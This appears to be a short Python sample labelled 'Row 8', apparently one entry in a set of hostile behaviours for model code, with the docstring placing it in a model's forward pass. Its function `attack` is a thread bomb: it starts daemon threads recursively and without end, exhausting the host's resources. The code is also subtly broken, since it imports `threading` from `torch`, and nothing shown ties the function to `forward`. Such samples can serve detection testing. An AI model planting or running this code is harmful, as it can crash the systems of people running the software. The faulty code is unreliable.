"""Row 8: starts threads without end.

Where: forward
"""

import torch
from torch import nn, threading


def attack(*_):
    while True:
        try:
            threading.Thread(target=attack, daemon=True).start()
        except RuntimeError:
            continue
